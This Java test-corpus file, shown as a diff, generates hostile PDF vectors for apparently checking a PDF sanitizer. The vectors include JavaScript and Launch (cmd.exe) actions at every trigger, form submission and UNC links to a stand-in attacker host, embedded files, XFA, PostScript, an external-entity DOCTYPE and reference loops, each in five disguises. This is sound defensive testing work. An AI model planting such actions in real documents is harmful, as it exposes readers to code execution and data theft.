@@ -1,0 +1,209 @@
+package jp.kiyome.testcorpus.pdf;
+
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.TreeMap;
+import java.util.TreeSet;
+import java.util.function.Supplier;
+import java.util.function.UnaryOperator;
+import jp.kiyome.testcorpus.sample.Sample;
+import jp.kiyome.testcorpus.sample.Vector;
+
+/** Every action at every trigger, and what else a PDF file can carry, each written plainly and in four disguises. */
+public final class PdfVectors {
+
+    private static final String EVIL = "http://evil.example.invalid/";
+
+    /** Action, and the finding that names it. */
+    private static final Map<String, String> ACTIONS = new TreeMap<>(Map.ofEntries(
+            Map.entry("JavaScript", "/JS(app.alert)|pdf.javascript"),
+            Map.entry("Launch", "/F(cmd.exe)/Win<</F(cmd.exe)/P(evilmark)>>|pdf.launch"),
+            Map.entry("GoToR", "/F(\\\\evil.example.invalid\\share)/D[0/Fit]|pdf.remote-go-to"),
+            Map.entry("GoToE", "/F(evil.pdf)/T<</R/C/N(evilmark)>>/D[0/Fit]|pdf.remote-go-to"),
+            Map.entry("SubmitForm", "/F(" + EVIL + ")/Flags 256|pdf.form-data"),
+            Map.entry("ImportData", "/F(evil.fdf)|pdf.form-data"),
+            Map.entry("ResetForm", "/Flags 0|pdf.action"),
+            Map.entry("Named", "/N/Print|pdf.action"),
+            Map.entry("Hide", "/T(evilmark)|pdf.action"),
+            Map.entry("SetOCGState", "/State[]|pdf.action"),
+            Map.entry("Thread", "/F(evil.pdf)/D 0|pdf.remote-go-to"),
+            Map.entry("Trans", "/Trans<</S/R>>|pdf.action"),
+            Map.entry("Rendition", "/OP 0/JS(evilmark)|pdf.media"),
+            Map.entry("Movie", "/T(evilmark)|pdf.media"),
+            Map.entry("Sound", "/Sound 9 0 R|pdf.media"),
+            Map.entry("RichMediaExecute", "/CMD<</C(evilmark)>>|pdf.media"),
+            Map.entry("GoTo3DView", "/V/N|pdf.media"),
+            Map.entry("URI", "/URI(file:///c:/evilmark)|pdf.link")));
+
+    private PdfVectors() {}
+
+    public static List<Vector> all() {
+        List<Vector> all = new ArrayList<>();
+        ACTIONS.forEach((kind, rest) -> {
+            String[] parts = rest.split("\\|", -1);
+            String action = "<</S/" + kind + parts[0] + ">>";
+            triggers(action).forEach((trigger, change) -> {
+                // A link is one on a click alone: anything else that would follow it is an action.
+                boolean clicked = trigger.endsWith("-A");
+                String code = trigger.equals("names") ? "pdf.javascript" : parts[1];
+                code = kind.equals("URI") && !clicked && !trigger.equals("names") ? "pdf.action" : code;
+                all.addAll(disguised("pdf-" + kind + "-" + trigger, base(), change, code));
+            });
+        });
+        structures()
+                .forEach((name, vector) -> all.addAll(disguised("pdf-" + name, base(), vector.change, vector.code)));
+        return List.copyOf(all);
+    }
+
+    private record Change(UnaryOperator<PdfBuilder> change, String code) {}
+
+    /** A page with a link, an outline item and a text field beside its text. */
+    private static PdfBuilder base() {
+        return PdfBuilder.onePage()
+                .add(1, "/Outlines 6 0 R/AcroForm<</Fields[8 0 R]>>")
+                .add(3, "/Annots[7 0 R 8 0 R]")
+                .object(6, "<</Type/Outlines/First 9 0 R/Last 9 0 R/Count 1>>")
+                .object(7, "<</Type/Annot/Subtype/Link/Rect[10 10 90 30]>>")
+                .object(8, "<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(value)/Rect[100 10 200 30]>>")
+                .object(9, "<</Title(Chapter)/Parent 6 0 R/Dest[3 0 R/Fit]>>");
+    }
+
+    private static Map<String, UnaryOperator<PdfBuilder>> triggers(String action) {
+        Map<String, UnaryOperator<PdfBuilder>> triggers = new TreeMap<>();
+        triggers.put("OpenAction", file -> file.add(1, "/OpenAction " + action));
+        for (String event : List.of("WC", "WS", "DS", "WP", "DP")) {
+            triggers.put("catalog-" + event, file -> file.add(1, "/AA<</" + event + " " + action + ">>"));
+        }
+        for (String event : List.of("O", "C")) {
+            triggers.put("page-" + event, file -> file.add(3, "/AA<</" + event + " " + action + ">>"));
+        }
+        triggers.put("link-A", file -> file.add(7, "/A " + action));
+        for (String event : List.of("E", "X", "D", "U", "Fo", "Bl", "PO", "PC", "PV", "PI")) {
+            triggers.put("annotation-" + event, file -> file.add(7, "/AA<</" + event + " " + action + ">>"));
+        }
+        for (String event : List.of("K", "F", "V", "C")) {
+            triggers.put("field-" + event, file -> file.add(8, "/AA<</" + event + " " + action + ">>"));
+        }
+        triggers.put("outline-A", file -> file.add(9, "/A " + action));
+        triggers.put("names", file -> file.add(1, "/Names<</JavaScript<</Names[(evilmark)" + action + "]>>>>"));
+        return triggers;
+    }
+
+    private static Map<String, Change> structures() {
+        Map<String, Change> all = new TreeMap<>();
+        all.put(
+                "next",
+                new Change(
+                        f -> f.add(7, "/A<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(evilmark)>>>>"), "pdf.action"));
+        all.put(
+                "embedded",
+                new Change(
+                        f -> f
+                                .add(1, "/Names<</EmbeddedFiles<</Names[(evilmark)20 0 R]>>>>")
+                                .object(20, "<</Type/Filespec/F(evil.exe)/EF<</F 21 0 R>>>>")
+                                .stream(21, "/Type/EmbeddedFile", "evilmark"),
+                        "pdf.embedded-file"));
+        all.put(
+                "associated",
+                new Change(
+                        f -> f.add(1, "/AF[20 0 R]").object(20, "<</Type/Filespec/F(evilmark)>>"),
+                        "pdf.embedded-file"));
+        all.put(
+                "attachment",
+                new Change(
+                        f -> f.add(3, "/Dur 1")
+                                .object(7, "<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(evilmark)>>>>"),
+                        "pdf.embedded-file"));
+        for (String media : List.of("Screen", "Movie", "Sound", "RichMedia", "3D", "Projection")) {
+            all.put(
+                    "annotation-" + media,
+                    new Change(
+                            f -> f.object(7, "<</Type/Annot/Subtype/" + media + "/Rect[0 0 9 9]/T(evilmark)>>"),
+                            "pdf.media"));
+        }
+        all.put(
+                "xfa",
+                new Change(
+                        f -> f
+                                .object(
+                                        1,
+                                        "<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R/AcroForm<</Fields[8 0 R]/XFA 20 0 R>>>>")
+                                .stream(20, "", "<evilmark/>"),
+                        "pdf.xfa"));
+        all.put(
+                "external-stream",
+                new Change(
+                        f -> f.stream(10, "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F(\\\\evil.example.invalid\\x)", "")
+                                .object(
+                                        3,
+                                        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Annots[7 0 R 8 0 R]"
+                                                + "/Resources<</Font<</F1 5 0 R>>/XObject<</X 10 0 R>>>>>>"),
+                        "pdf.external-stream"));
+        all.put(
+                "postscript",
+                new Change(
+                        f -> f.stream(10, "/Type/XObject/Subtype/PS", "(evilmark) print")
+                                .object(
+                                        3,
+                                        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Annots[7 0 R 8 0 R]"
+                                                + "/Resources<</Font<</F1 5 0 R>>/XObject<</X 10 0 R>>>>>>"),
+                        "pdf.postscript"));
+        all.put(
+                "metadata",
+                new Change(
+                        f -> f.add(1, "/Metadata 20 0 R").stream(
+                                20, "/Type/Metadata/Subtype/XML", "<!DOCTYPE x SYSTEM 'file:///evilmark'>"),
+                        "pdf.metadata"));
+        all.put(
+                "private-data",
+                new Change(f -> f.add(3, "/PieceInfo<</Evil<</Private(evilmark)>>>>"), "pdf.private-data"));
+        all.put(
+                "type1-matrix",
+                new Change(
+                        f -> f
+                                .object(5, "<</Type/Font/Subtype/Type1/BaseFont/AAAAAA+Evil/FontDescriptor 20 0 R>>")
+                                .object(20, "<</Type/FontDescriptor/FontName/AAAAAA+Evil/FontFile 21 0 R>>")
+                                .stream(21, "", "%!FontType1\n/FontMatrix [1 2 3 4 5 (evilmark)] def eexec"),
+                        "pdf.font-program"));
+        all.put("loop-outline", new Change(f -> f.add(9, "/First 9 0 R"), "pdf.loop"));
+        all.put("loop-pages", new Change(f -> f.object(2, "<</Type/Pages/Count 2/Kids[3 0 R 2 0 R]>>"), "pdf.loop"));
+        return all;
+    }
+
+    private static List<Vector> disguised(String name, PdfBuilder base, UnaryOperator<PdfBuilder> change, String code) {
+        PdfBuilder hostile = change.apply(base.copy());
+        TreeSet<String> codes = new TreeSet<>(List.of(code));
+        if (name.equals("pdf-attachment")) {
+            codes.add("pdf.unlisted-entry");
+        }
+        List<Vector> all = new ArrayList<>();
+        all.add(vector(name, "plain", hostile::plain, base, codes));
+        all.add(vector(name, "escaped", hostile::withEscapedNames, base, codes));
+        all.add(vector(name, "object-stream", hostile::inObjectStreams, base, codes));
+        all.add(vector(name, "encrypted", hostile::encrypted, base, with(codes, "pdf.permissions")));
+        all.add(vector(name, "update", () -> hostile.asUpdateOf(base), base, with(codes, "pdf.earlier-revision")));
+        return all;
+    }
+
+    private static TreeSet<String> with(TreeSet<String> codes, String more) {
+        TreeSet<String> all = new TreeSet<>(codes);
+        all.add(more);
+        return all;
+    }
+
+    private static Vector vector(
+            String name, String disguise, Supplier<byte[]> file, PdfBuilder base, TreeSet<String> codes) {
+        return Vector.of(name + "-" + disguise, "pdf", file, base::plain)
+                .finds(codes.toArray(String[]::new))
+                .loses("evilmark", "cmd.exe", "evil.example.invalid");
+    }
+
+    public static List<Sample> benign() {
+        return List.of(
+                Sample.of("pdf-one-page", "pdf", PdfBuilder.onePage()::plain),
+                Sample.of("pdf-object-streams", "pdf", PdfBuilder.onePage()::inObjectStreams),
+                Sample.of("pdf-escaped-names", "pdf", PdfBuilder.onePage()::withEscapedNames),
+                Sample.of("pdf-link-outline-field", "pdf", base()::plain));
+    }
+}
